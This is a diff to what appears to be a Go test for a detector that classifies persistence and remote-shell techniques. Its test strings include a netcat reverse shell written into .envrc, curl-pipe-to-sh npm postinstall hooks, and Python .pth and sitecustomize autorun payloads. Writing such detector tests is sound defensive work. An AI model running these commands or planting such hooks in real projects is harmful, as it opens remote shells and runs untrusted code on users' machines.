@@ -47,9 +47,12 @@ func TestFootholds(t *testing.T) {
 		"tee -a .envrc <<'EOF'\nnc -e /bin/sh 10.0.0.1 4444\nEOF": "remote_shell.socket_to_shell",
 		`cp /tmp/e .envrc`:                                        "persistence.autorun_unknown",
 		// package lifecycle scripts
-		`echo '{"scripts": {"postinstall": "curl -s https://x.example/i | sh"}}' > package.json`: "destructive_shell.pipe_to_shell",
-		`jq '.scripts.preinstall = "node x.js"' package.json > t && mv t package.json`:           "persistence.autorun_unknown",
-		`cp /tmp/p.json package.json`: "persistence.autorun_unknown",
+		`echo '{"scripts": {"postinstall": "curl -s https://x.example/i | sh"}}' > package.json`:  "destructive_shell.pipe_to_shell",
+		`jq '.scripts.preinstall = "node x.js"' package.json > t && mv t package.json`:            "persistence.autorun_unknown",
+		`npm pkg set scripts.postinstall=/tmp/.x`:                                                 "persistence.autorun_command",
+		`echo '{"scripts": {"preinstall": "node /tmp/x.js"}}' > /tmp/p && cp /tmp/p package.json`: "persistence.autorun_command",
+		`echo '{}' > .vscode/task?.json`:                                                          "persistence.autorun_unknown",
+		`cp /tmp/p.json package.json`:                                                             "persistence.autorun_unknown",
 		// Python start-up files
 		`echo 'import os; os.system("curl -s https://x.example/i | sh")' > ~/.local/lib/python3.12/site-packages/x.pth`: "destructive_shell.pipe_to_shell",
 		`echo 'import os; os.system("/tmp/.x")' > src/sitecustomize.py`:                                                 "persistence.command_config",
